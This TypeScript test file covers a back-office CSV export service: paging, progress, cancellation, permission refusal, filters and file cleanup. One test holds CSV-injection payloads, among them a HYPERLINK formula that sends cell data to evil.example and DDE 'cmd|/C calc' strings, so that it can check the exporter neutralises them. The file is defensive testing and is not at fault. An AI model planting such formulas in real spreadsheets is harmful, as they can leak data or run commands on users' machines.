import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { OperationId } from '@shared/contract';
import { MESSAGES } from '@shared/messages';
import { GROUP_EXPORT_COLUMNS } from '@shared/rules/groups';
import { ApiClient } from '../../src-main/services/api-client';
import { type CallOperation, ExportFailedError, exportToCsvFile, pagingPart, type Progress } from '../../src-main/services/csv-export';
import { writeCsvFile } from '../../src-main/services/files';
import { createSessionVault } from '../../src-main/services/session-vault';
import { accounts } from '../../src-server/db/schema';
import { startTestServer, TEST_PASSWORD, type TestServer } from '../helpers/server';

const EXTRA_ACCOUNTS = 2100;
let server: TestServer;
const scratch = mkdtempSync(join(tmpdir(), 'bo-export-'));
let listCalls = 0;

beforeAll(async () => {
  server = await startTestServer({
    beforeListen: (app) =>
      app.addHook('onRequest', async (request) => {
        if (request.url.startsWith('/admin/accounts?')) listCalls += 1;
      }),
  });
  const rows = Array.from({ length: EXTRA_ACCOUNTS }, (_, i) => ({
    name: `Compte ${String(i).padStart(4, '0')} « ${i % 7 === 0 ? 'Chloé; "la" pharmacienne' : 'Martin'} »`,
    email: `export-${i}@test.local`,
    passwordHash: 'x',
    roles: i % 2 ? ['CSM'] : ['SALES', 'CSM_LEAD'],
  }));
  for (let i = 0; i < rows.length; i += 500) await server.database.db.insert(accounts).values(rows.slice(i, i + 500));
});
afterAll(async () => {
  await server?.close();
  rmSync(scratch, { recursive: true, force: true });
});

async function signedInClient(roles: Parameters<TestServer['createAccount']>[0]) {
  const { email } = await server.createAccount(roles);
  const vault = await createSessionVault({ service: 'test', account: server.url });
  const api = new ApiClient({ baseUrl: () => server.url, vault });
  expect((await api.signIn(email, TEST_PASSWORD)).ok).toBe(true);
  return api;
}

const columns = [
  { key: 'name', header: 'Nom' },
  { key: 'username', header: 'E-mail' },
  { key: 'roles', header: 'Rôles' },
];

describe('CSV export streamed from a list operation', () => {
  it('knows where each list takes its paging', () => {
    expect(pagingPart('admin.accounts.list')).toBe('query');
    expect(pagingPart('meta.get')).toBeNull();
  });

  it('pages through every account, writes a French Excel file and reports progress page by page', async () => {
    const api = await signedInClient(['ADMIN']);
    const path = join(scratch, 'comptes.csv');
    const progress: Progress[] = [];
    listCalls = 0;
    const result = await exportToCsvFile(
      (operation, input) => api.call(operation, input as never),
      { operation: 'admin.accounts.list', input: { query: {} }, columns, pageSize: 500 },
      path,
      {
        onProgress: (step) => progress.push(step),
      },
    );
    const total = EXTRA_ACCOUNTS + 1;
    expect(result.rows).toBe(total);
    expect(listCalls).toBe(Math.ceil(total / 500));
    expect(progress.map((step) => step.done)).toEqual([500, 1000, 1500, 2000, total]);
    expect(progress.every((step) => step.total === total)).toBe(true);

    const text = readFileSync(path, 'utf8');
    expect(text.startsWith('\uFEFFNom;E-mail;Rôles\r\n')).toBe(true);
    const lines = text.trimEnd().split('\r\n');
    expect(lines).toHaveLength(total + 1);
    // Separators and quotes inside a value are quoted, as Excel reads them back.
    expect(text).toContain('"Compte 0000 « Chloé; ""la"" pharmacienne »";export-0@test.local;SALES, CSM_LEAD');
    await api.close();
  });

  it('stops when cancelled and leaves no file, not even a partial one', async () => {
    const api = await signedInClient(['ADMIN']);
    const path = join(scratch, 'annule.csv');
    const controller = new AbortController();
    const run = exportToCsvFile(
      (operation, input) => api.call(operation, input as never),
      { operation: 'admin.accounts.list', input: { query: {} }, columns, pageSize: 300 },
      path,
      {
        signal: controller.signal,
        onProgress: (step) => step.done >= 600 && controller.abort(),
      },
    );
    await expect(run).rejects.toThrow();
    expect(existsSync(path)).toBe(false);
    expect(readdirSync(scratch).filter((name) => name.startsWith('annule'))).toEqual([]);
    await api.close();
  });

  it("gives back the server's refusal for a role that may not list, and writes nothing", async () => {
    const api = await signedInClient(['SALES']);
    const path = join(scratch, 'refuse.csv');
    const run = exportToCsvFile(
      (operation, input) => api.call(operation, input as never),
      { operation: 'admin.accounts.list', input: { query: {} }, columns },
      path,
    );
    await expect(run).rejects.toBeInstanceOf(ExportFailedError);
    await expect(run).rejects.toThrow(MESSAGES.userNotAllowed);
    expect(existsSync(path)).toBe(false);
    await api.close();
  });

  it('keeps the filters the screen sent and caps the rows at maxRows', async () => {
    const api = await signedInClient(['ADMIN']);
    const path = join(scratch, 'filtre.csv');
    const result = await exportToCsvFile(
      (operation, input) => api.call(operation, input as never),
      { operation: 'admin.accounts.list', input: { query: { term: 'chloe' } }, columns, pageSize: 100, maxRows: 250 },
      path,
    );
    // 'chloe' matches 'Chloé' (accent-insensitive search): one account in seven, capped at 250.
    expect(result.rows).toBe(250);
    const lines = readFileSync(path, 'utf8').trimEnd().split('\r\n').slice(1);
    expect(lines.every((line) => line.includes('Chloé'))).toBe(true);
    await api.close();
  });

  // OWASP CSV injection: a text a spreadsheet would run comes back with a ' in front (quoted, as papaparse writes an
  // escaped cell); number-typed values, negative ones included, and texts that are plain numbers stay as they are.
  it('neutralises formulas in text cells of every list export, never numbers', async () => {
    const hostile = [
      '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
      "+cmd|'/C calc'!A0",
      "@SUM(1+1)*cmd|'/C calc'!A0",
      '-2+3',
      '\t=1+1',
      '\r=1+1',
    ];
    const read = (path: string) =>
      Papa.parse<string[]>(readFileSync(path, 'utf8').replace(/^\uFEFF/, ''), { delimiter: ';', newline: '\r\n', skipEmptyLines: true }).data;

    // Accounts, through the real server: hostile names.
    const api = await signedInClient(['ADMIN']);
    await server.database.db
      .insert(accounts)
      .values(hostile.map((name, i) => ({ name, email: `hostile-${i}@formula.local`, passwordHash: 'x', roles: ['CSM'] })));
    const accountsPath = join(scratch, 'comptes-hostiles.csv');
    await exportToCsvFile(
      (operation, input) => api.call(operation, input as never),
      {
        operation: 'admin.accounts.list',
        input: { query: { term: 'formula.local' } },
        columns: [
          { key: 'name', header: 'Nom' },
          { key: 'username', header: 'E-mail' },
        ],
      },
      accountsPath,
    );
    const accountCells = read(accountsPath).slice(1);
    expect(accountCells.map((row) => row[0]).sort()).toEqual(hostile.map((name) => `'${name}`).sort());
    expect(readFileSync(accountsPath, 'utf8')).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Cliquez"")";hostile-0@formula.local\r\n`);
    await api.close();

    // Adverts and groups: their rows as the API answers them, with number-typed and list values.
    const answers: Partial<Record<OperationId, Record<string, unknown>[]>> = {
      'adverts.list': hostile.map((title, i) => ({
        id: i + 1,
        type: 'post',
        name: hostile[(i + 1) % hostile.length],
        title,
        weight: -5 - i,
        isFree: false,
        source: '-7',
      })),
      'groups.list': hostile.map((name, i) => ({ id: -(i + 1), name, label: 'Feed', labels: [hostile[i], 'Feed'], audiencesCount: -1.5 })),
    };
    const call: CallOperation = async (operation) => ({ ok: true, data: { items: answers[operation] ?? [], total: hostile.length } }) as never;
    const advertsPath = join(scratch, 'adverts-hostiles.csv');
    await exportToCsvFile(
      call,
      {
        operation: 'adverts.list',
        input: { body: {} } as never,
        columns: ['id', 'name', 'title', 'weight', 'isFree', 'source'].map((key) => ({ key, header: key })),
      },
      advertsPath,
    );
    expect(read(advertsPath).slice(1)).toEqual(
      hostile.map((title, i) => [String(i + 1), `'${hostile[(i + 1) % hostile.length]}`, `'${title}`, String(-5 - i), 'false', '-7']),
    );
    expect(readFileSync(advertsPath, 'utf8')).toContain(`;-5;false;-7\r\n`);
    const groupsPath = join(scratch, 'groupes-hostiles.csv');
    await exportToCsvFile(
      call,
      { operation: 'groups.list', input: { query: {} }, columns: GROUP_EXPORT_COLUMNS.map((column) => ({ ...column })) },
      groupsPath,
    );
    expect(read(groupsPath).slice(1)).toEqual(hostile.map((name, i) => [String(-(i + 1)), `'${name}`, 'Feed', `'${name}, Feed`, '-1.5']));
  });

  it('fails cleanly when the rows fail before the file is even open (no stray stream error), leaving nothing', async () => {
    for (let attempt = 0; attempt < 20; attempt += 1) {
      const path = join(scratch, `tot-${attempt}.csv`);
      const failing = (async function* () {
        throw new Error('rows failed');
        yield {};
      })();
      await expect(writeCsvFile(path, failing, ['id'])).rejects.toThrow('rows failed');
      expect(existsSync(path)).toBe(false);
    }
    // Give a late stream error the time to surface (vitest fails the file on an uncaught exception).
    await new Promise((resolve) => setTimeout(resolve, 200));
    expect(readdirSync(scratch).filter((name) => name.startsWith('tot-'))).toEqual([]);
  });
});
